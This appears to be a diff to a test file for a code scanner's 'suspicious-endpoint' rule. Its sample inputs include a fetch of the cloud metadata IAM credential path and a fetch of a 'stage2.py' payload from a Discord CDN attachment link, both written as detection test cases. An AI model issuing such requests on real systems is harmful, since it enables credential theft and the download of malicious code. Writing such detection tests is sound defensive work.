@@ -10,6 +10,16 @@ describe('NET-001 suspicious-endpoint', () => {
     const f = await ruleFindings('NET-001', "fetch('http://169.254.169.254/latest/meta-data/iam/')");
     expect(f[0]?.category).toBe('credential-theft');
   });
+  it('treats Discord CDN attachments as a file-drop, but not the CDN host itself', async () => {
+    const f = await ruleFindings(
+      'NET-001',
+      "fetch('https://cdn.discordapp.com/attachments/1033739850643406918/1034240047458824282/stage2.py')",
+    );
+    expect(f[0]?.evidence?.endpointKind).toBe('file-drop');
+    expect(
+      await ruleFindings('NET-001', "const avatar = 'https://cdn.discordapp.com/avatars/' + id + '.png';"),
+    ).toHaveLength(0);
+  });
   it('ignores ordinary hosts', async () => {
     expect(await ruleFindings('NET-001', "fetch('https://api.example.com/v1')")).toHaveLength(0);
   });
